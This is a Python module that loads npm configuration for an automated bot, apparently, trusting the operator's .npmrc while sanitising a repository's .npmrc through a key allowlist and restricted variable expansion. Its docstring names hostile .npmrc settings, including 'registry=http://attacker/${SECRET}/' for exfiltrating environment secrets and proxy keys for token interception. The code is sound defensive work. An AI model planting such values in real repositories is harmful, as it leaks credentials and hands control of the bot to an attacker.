"""npm settings the way npm users expect them, and the config a package manager child gets.

Two sources with two levels of trust:

- The **operator's** npm config (the user `.npmrc`, `NPM_CONFIG_REGISTRY`) is trusted: it names
  the registries and holds their credentials, and its `${VAR}` references are expanded from the
  bot's environment, as npm would.
- A **repository's** committed `.npmrc` is not: a repository writer could name a program npm
  runs (`git=`, `script-shell=`, `node-options=`), send the registry token through a proxy they
  control (`proxy=`, `https-proxy=`, `strict-ssl=false`) or exfiltrate the bot's environment
  through `${VAR}` (`registry=http://attacker/${SECRET}/`).  Only an allowlist of keys that shape
  how the tree resolves is taken from it (`PROJECT_KEYS`, scoped registries); `${VAR}` is expanded
  only for variables the operator lists (`ROTATION_BOT_NPMRC_VARIABLES`); credentials are never
  taken from it.  What was dropped is reported (key names only, never values).
"""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import httpx

from bot.errors import ConfigError, register_secret
from bot.shell import allowed_environment

PUBLIC_REGISTRY = "https://registry.npmjs.org/"
NO_GIT = shutil.which("false") or "/bin/false"
_VARIABLE = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(\?)?\}")
_CREDENTIAL_KEYS = ("_authToken", "_auth", "username", "_password")
_SCOPED_REGISTRY = re.compile(r"^@[a-z0-9][a-z0-9._~-]*:registry$")
# npm's network settings taken from the operator's config (corporate CAs and proxies).
NETWORK_KEYS = (
    "cafile",
    "ca",
    "strict-ssl",
    "proxy",
    "https-proxy",
    "noproxy",
    "fetch-timeout",
    "fetch-retries",
    "maxsockets",
)
# Keys a repository's own .npmrc may set: they change how the dependency tree resolves, never
# which program runs, where requests go (apart from registries, which never get credentials the
# operator did not configure for that host) or what is trusted.
PROJECT_KEYS = frozenset(
    {
        "registry",
        "legacy-peer-deps",
        "strict-peer-deps",
        "engine-strict",
        "install-strategy",
        "include",
        "omit",
        "os",
        "cpu",
        "libc",
        "prefer-dedupe",
        "save-exact",
        "save-prefix",
        # pnpm reads the same file
        "auto-install-peers",
        "dedupe-peer-dependents",
        "strict-peer-dependencies",
        "resolution-mode",
        "link-workspace-packages",
        "prefer-workspace-packages",
        "shared-workspace-lockfile",
        "node-linker",
        "public-hoist-pattern",
        "hoist-pattern",
        "shamefully-hoist",
        "lockfile-include-tarball-url",
        "dedupe-direct-deps",
        "exclude-links-from-lockfile",
        "save-workspace-protocol",
        "include-workspace-root",
    }
)


def _normalize_registry(url: str, *, source: str) -> str:
    if not url.startswith(("http://", "https://")):
        raise ConfigError(f"{source}: registry {url!r} must be an http(s) URL")
    return url if url.endswith("/") else url + "/"


def _nerf_dart(url: str) -> str:
    """npm's credential key for a URL: `//host[:port]/path/`."""
    parsed = httpx.URL(url)
    port = f":{parsed.port}" if parsed.port else ""
    path = parsed.path if parsed.path.endswith("/") else parsed.path.rsplit("/", 1)[0] + "/"
    return f"//{parsed.host}{port}{path}"


@dataclass(frozen=True)
class ProjectConfig:
    """What a repository's `.npmrc` may contribute, and what was refused (key names only)."""

    values: tuple[tuple[str, str], ...] = ()
    dropped: tuple[str, ...] = ()

    def text(self) -> str:
        """The sanitised project `.npmrc` handed to the package manager."""
        return "".join(f"{key}={value}\n" for key, value in self.values)


@dataclass(frozen=True)
class NpmSettings:
    """Registry URL, scoped registries and credentials, merged from npm's config sources."""

    registry: str = PUBLIC_REGISTRY
    scoped_registries: tuple[tuple[str, str], ...] = ()
    credentials: tuple[tuple[str, str, str], ...] = ()
    network: tuple[tuple[str, str], ...] = ()
    project: ProjectConfig = ProjectConfig()

    def registry_for(self, package: str) -> str:
        """The registry that serves `package` (scoped registries win)."""
        if package.startswith("@"):
            scope = package.split("/", 1)[0]
            for name, url in self.scoped_registries:
                if name == scope:
                    return url
        return self.registry

    def auth_headers(self, url: str) -> dict[str, str]:
        """`Authorization` for `url`, only when a credential's `//host/path/` prefixes it."""
        key = _nerf_dart(url)
        best: dict[str, str] = {}
        best_length = -1
        for prefix, name, value in self.credentials:
            if not key.startswith(prefix) or len(prefix) < best_length:
                continue
            if name == "_authToken":
                best, best_length = {"Authorization": f"Bearer {value}"}, len(prefix)
            elif name == "_auth":
                best, best_length = {"Authorization": f"Basic {value}"}, len(prefix)
        return best

    def userconfig(self, *, omit_resolved: bool) -> str:
        """The npmrc handed to the package manager as its user config: registries, credentials,
        the operator's network settings, scripts off, no audit."""
        lines = [
            f"registry={self.registry}",
            *(f"{scope}:registry={url}" for scope, url in self.scoped_registries),
            *(f"{prefix}:{name}={value}" for prefix, name, value in self.credentials),
            *(f"{key}={value}" for key, value in self.network),
            "ignore-scripts=true",
            # git dependencies are never fetched: npm's git is a program that always fails
            f"git={NO_GIT}",
            "audit=false",
            "fund=false",
            "update-notifier=false",
            "progress=false",
            f"omit-lockfile-registry-resolved={'true' if omit_resolved else 'false'}",
        ]
        return "\n".join(lines) + "\n"


def isolated_npm_environment(
    environ: Mapping[str, str],
    settings: NpmSettings,
    *,
    userconfig: Path,
    cache: Path,
    omit_resolved: bool,
) -> dict[str, str]:
    """The environment a package manager runs with: the allowlisted variables, a 0600 userconfig
    (written once, outside any worktree) holding registries and credentials with scripts off, no
    global config."""
    if not userconfig.exists():
        descriptor = os.open(userconfig, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        with os.fdopen(descriptor, "w", encoding="utf-8") as handle:
            handle.write(settings.userconfig(omit_resolved=omit_resolved))
    return allowed_environment(
        environ,
        {
            "NPM_CONFIG_USERCONFIG": str(userconfig),
            "NPM_CONFIG_GLOBALCONFIG": os.devnull,
            "NPM_CONFIG_CACHE": str(cache),
            "NPM_CONFIG_IGNORE_SCRIPTS": "true",
        },
    )


def _npmrc_lines(text: str) -> list[tuple[str, str]]:
    pairs = []
    for raw in text.splitlines():
        line = raw.strip()
        if not line or line.startswith(("#", ";")) or "=" not in line:
            continue
        key, _, value = line.partition("=")
        pairs.append((key.strip(), value.strip().strip('"')))
    return pairs


def _expand(value: str, environ: Mapping[str, str], source: str) -> str:
    def replace(match: re.Match[str]) -> str:
        name, optional = match.group(1), match.group(2)
        if name not in environ and not optional:
            raise ConfigError(f"{source}: ${{{name}}} is used but not set; export it and retry")
        return environ.get(name, "")

    return _VARIABLE.sub(replace, value)


def sanitize_project_npmrc(
    text: str, environ: Mapping[str, str], *, variables: tuple[str, ...] = ()
) -> ProjectConfig:
    """The allowlisted part of a repository's `.npmrc`; `${VAR}` only for `variables`."""
    kept: dict[str, str] = {}
    dropped: list[str] = []
    for key, value in _npmrc_lines(text):
        allowed = key in PROJECT_KEYS or bool(_SCOPED_REGISTRY.match(key))
        references = {match.group(1) for match in _VARIABLE.finditer(value)}
        if not allowed or not references <= set(variables) or "\n" in value:
            dropped.append(key)
            continue
        for name in references:
            register_secret(environ.get(name))
        expanded = _expand(value, environ, ".npmrc")
        if key == "registry" or key.endswith(":registry"):
            expanded = _normalize_registry(expanded, source=f".npmrc {key}")
        kept[key] = expanded
    return ProjectConfig(tuple(kept.items()), tuple(sorted(set(dropped))))


def load_npm_settings(
    environ: Mapping[str, str],
    *,
    project_npmrc: str | None = None,
    project_variables: tuple[str, ...] = (),
) -> NpmSettings:
    """The operator's npm config (user `.npmrc`, `NPM_CONFIG_REGISTRY`) merged with the
    sanitised registries of the repository's `.npmrc` (npm's order: the project wins)."""
    merged: dict[str, str] = {}
    user_path = Path(
        environ.get("NPM_CONFIG_USERCONFIG")
        or environ.get("npm_config_userconfig")
        or Path(environ.get("HOME", "~")).expanduser() / ".npmrc"
    )
    if user_path.is_file():
        try:
            text = user_path.read_text(encoding="utf-8")
        except (OSError, UnicodeDecodeError) as error:
            raise ConfigError(f"{user_path}: cannot read it as UTF-8 text ({error})") from error
        for key, value in _npmrc_lines(text):
            merged[key] = _expand(value, environ, str(user_path))
    for name in ("NPM_CONFIG_REGISTRY", "npm_config_registry"):
        if environ.get(name):
            merged["registry"] = environ[name]
    project = (
        sanitize_project_npmrc(project_npmrc, environ, variables=project_variables)
        if project_npmrc is not None
        else ProjectConfig()
    )
    for key, value in project.values:
        if key == "registry" or key.endswith(":registry"):
            merged[key] = value
    registry = _normalize_registry(merged.get("registry", PUBLIC_REGISTRY), source="npm config")
    scoped = tuple(
        sorted(
            (key.split(":", 1)[0], _normalize_registry(value, source=f"npm config {key}"))
            for key, value in merged.items()
            if _SCOPED_REGISTRY.match(key)
        )
    )
    credentials = []
    for key, value in merged.items():
        prefix, _, name = key.rpartition(":")
        if prefix.startswith("//") and name in _CREDENTIAL_KEYS and value:
            register_secret(value)
            credentials.append((prefix if prefix.endswith("/") else prefix + "/", name, value))
    network = tuple((key, merged[key]) for key in NETWORK_KEYS if key in merged)
    return NpmSettings(registry, scoped, tuple(sorted(credentials)), network, project)
